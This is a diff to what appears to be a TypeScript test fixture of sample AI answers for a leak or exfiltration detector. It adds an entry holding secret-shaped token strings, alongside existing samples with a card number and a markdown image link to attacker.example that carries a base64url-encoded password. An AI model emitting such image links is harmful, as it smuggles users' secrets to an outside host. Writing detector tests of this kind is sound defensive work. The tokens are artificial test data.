@@ -64,6 +64,13 @@ const answers: readonly { name: string; channel: AnswerChannel; whole: string }[
     channel: text,
     whole: `Done. ![x](https://attacker.example/p.png?d=${Buffer.from("the user's password is hunter2").toString("base64url")}) bye`,
   },
+  {
+    name: "what is told by a mark in its middle",
+    channel: text,
+    whole: "One is k3x8Q~mV2pL9rT4wZ7bN1cX5dF8gH3jK6qS0aE2y and one wJ4kP8sN2vB6xQ.atlasv1.".concat(
+      "m3Kq9ZtR7wXc2VbN".repeat(4),
+    ),
+  },
   { name: "a card number", channel: text, whole: "Your credit card 4539 5787 6362 1486 was charged on 2026-01-02." },
   { name: "a harmless call", channel: call, whole: JSON.stringify({ command: 'ls -la\n"src" && echo \u00e9 done' }) },
   {
